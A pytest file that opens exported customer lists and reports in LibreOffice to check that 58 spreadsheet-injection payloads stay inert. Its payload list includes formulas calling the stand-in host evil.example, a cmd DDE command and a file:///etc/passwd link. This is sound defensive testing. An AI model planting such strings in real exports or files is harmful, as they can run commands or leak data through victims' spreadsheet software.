"""Lists and reports full of attacks, opened by LibreOffice: nothing in them is live.

58 payloads in every place that text reaches (ids, cells, headings, names of features and personas, title) × a list
opened with comma and with semicolon, workbook, slides, report. Takes minutes: SEGMENTATION_OFFICE=1, or
`make test-hostile`.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from segmentation.core.csv_export import csv_bytes
from segmentation.reports import FORMATS
from tests.reports.small import hostile_facts

pytestmark = pytest.mark.skipif(
    os.environ.get("SEGMENTATION_OFFICE") != "1", reason="minutes of LibreOffice: SEGMENTATION_OFFICE=1"
)

MARK = "MARK7"
FORMULAS = (
    f'1+1&"{MARK}"',
    f'HYPERLINK("http://evil.example/{MARK}","{MARK}")',
    f'WEBSERVICE("http://evil.example/{MARK}")',
    f"cmd|' /C {MARK}'!A0",
    f'DDE("soffice","{MARK}","A1")',
)
BEFORE = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", '"=', '";=')
PLAIN = (
    f"http://evil.example/{MARK}",
    f"file:///etc/passwd#{MARK}",
    f"<script>alert('{MARK}')</script>",
)
PAYLOADS = (*(start + formula for start in BEFORE for formula in FORMULAS), *PLAIN)


def list_of_all() -> pd.DataFrame:
    """A list of customers whose ids, cells and headings are payloads."""
    columns = {f"{payload} column": PAYLOADS[place:] + PAYLOADS[:place] for place, payload in enumerate(PAYLOADS)}
    return pd.DataFrame(columns)


def converted(files: list[Path], target: str, out: Path, *more: str) -> list[str]:
    """The files as LibreOffice understands them, as flat XML."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not on this machine (Debian: apt install libreoffice)")
    command = [office, f"-env:UserInstallation=file://{out}/profile", "--headless", *more, "--convert-to", target]
    subprocess.run([*command, "--outdir", str(out), *map(str, files)], check=True, capture_output=True, timeout=550)
    texts = [(out / f"{path.stem}.{target.partition(':')[0]}").read_text(encoding="utf-8") for path in files]
    assert all(MARK in text for text in texts), "the payloads are not in what was opened: the test proves nothing"
    return texts


def live(text: str) -> list[str]:
    """What would run or load: formulas and links that carry the mark, scripts and event listeners."""
    found = re.findall(r'(?:table:formula|xlink:href|script:[\w-]+)="[^"]*"', text)
    found += re.findall(r"<(?:text:script|office:dde-source|text:dde-\w+|table:dde-\w+)\b[^>]*>", text)
    return [item for item in found if MARK in item or "evil" in item or "dde" in item]


SEPARATORS = {"comma": 44, "semicolon": 59}
TARGETS = {"workbook": ["fods"], "slides": ["fodp"], "report": ["fods", "--infilter=calc_HTML_WebQuery"]}
"""A report is opened as a spreadsheet opens it: there its cells could become formulas."""


def test_there_are_58() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 58


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_of_a_list_is_live(separator: str, tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_bytes(csv_bytes(list_of_all()))
    option = f"--infilter=CSV:{SEPARATORS[separator]},34,76,1,,0,false,true,false,false,false,-1,true"
    assert [item for text in converted([tmp_path / "list.csv"], "fods", tmp_path, option) for item in live(text)] == []


@pytest.mark.parametrize("kind", list(FORMATS))
def test_nothing_in_a_report_is_live(kind: str, tmp_path: Path) -> None:
    files = [tmp_path / f"{kind}-{number}.{FORMATS[kind].extension.lstrip('.')}" for number in range(len(PAYLOADS))]
    for file, payload in zip(files, PAYLOADS, strict=True):
        file.write_bytes(FORMATS[kind].make(hostile_facts(payload)))
    target, *more = TARGETS[kind]
    assert [item for text in converted(files, target, tmp_path, *more) for item in live(text)] == []


def test_the_matrix_sees_what_is_live(tmp_path: Path) -> None:
    raw = pd.DataFrame({"id": [payload for payload in PAYLOADS if payload[0] in "=+-"]})
    (tmp_path / "raw.csv").write_text("\n".join(["id", *raw["id"]]), encoding="utf-8")
    option = "--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
    assert live(converted([tmp_path / "raw.csv"], "fods", tmp_path / "out", option)[0])
